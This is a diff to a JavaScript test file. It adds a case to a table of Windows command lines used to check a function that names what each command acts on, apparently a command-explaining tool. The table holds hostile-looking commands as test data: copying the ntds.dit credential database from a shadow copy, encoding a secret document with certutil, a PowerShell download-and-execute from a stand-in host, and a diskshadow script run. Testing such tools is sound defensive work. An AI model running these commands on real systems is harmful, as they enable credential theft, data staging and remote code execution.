@@ -10,6 +10,7 @@ describe("a sentence", () => {
     ["esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\k\\n.dat", "C:\\Windows\\NTDS\\ntds.dit"],
     ["certutil -encode C:\\k\\secret.docx C:\\k\\out.txt", "C:\\k\\secret.docx"],
     ['powershell -c "irm h.example/x.ps1 | iex"', "the script h.example/x.ps1"],
+    ["diskshadow /s C:\\kelp\\tide.dsh /l C:\\kelp\\tide.log", "start programs: the script C:\\kelp\\tide.dsh"],
   ])("names what the act is about: %s", (commandLine, about) => {
     expect(text(commandLine).split(". ")[0]).toContain(about);
   });
